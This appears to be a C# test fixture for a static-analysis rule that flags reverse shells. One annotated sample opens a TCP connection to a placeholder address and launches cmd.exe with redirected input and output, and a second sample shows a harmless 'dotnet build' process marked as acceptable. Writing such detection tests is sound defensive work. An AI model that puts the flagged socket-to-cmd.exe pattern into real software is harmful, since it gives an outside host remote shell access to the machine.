using var client = new TcpClient("203.0.113.7", 443);
var stream = client.GetStream();
var psi = new ProcessStartInfo("cmd.exe") {
    // ruleid: cs-process-socket-shell
    RedirectStandardInput = true,
    // ruleid: cs-process-socket-shell
    RedirectStandardOutput = true,
    UseShellExecute = false };
// ===== block =====
var psi = new ProcessStartInfo("dotnet", "build") {
    // ok: cs-process-socket-shell
    RedirectStandardOutput = true,
    // ok: cs-process-socket-shell
    RedirectStandardInput = true,
    UseShellExecute = false };
